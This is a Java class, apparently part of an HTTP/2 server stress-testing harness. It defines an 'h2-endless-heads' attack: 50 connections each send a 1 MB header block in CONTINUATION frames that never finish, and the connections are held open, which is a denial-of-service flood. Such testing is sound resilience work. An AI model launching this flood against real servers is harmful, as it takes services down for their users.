package dev.belfry.attack.strangers;

import dev.belfry.attack.stage.Http2Frames;
import dev.belfry.attack.stage.Requests;
import dev.belfry.attack.stage.Stage;
import java.io.IOException;

/** A head in continuations that never ends. */
final class Http2EndlessHeads implements Attack {
    private static final int CONNECTIONS = 50;
    private static final int PIECES = 1000;

    @Override
    public String name() {
        return "h2-endless-heads";
    }

    @Override
    public String what() {
        return CONNECTIONS + " connections of HTTP/2 with a head of 1 MB in CONTINUATION frames, without an end";
    }

    @Override
    public void run(Stage stage) throws IOException {
        byte[] bytes = Requests.joined(
                Http2Frames.connection(1 << 20).bytes(),
                new Http2Frames().endlessHead(1, PIECES).bytes());
        stage.crowd().gather(CONNECTIONS, stranger -> stranger.send(bytes));
        stage.hold();
    }
}
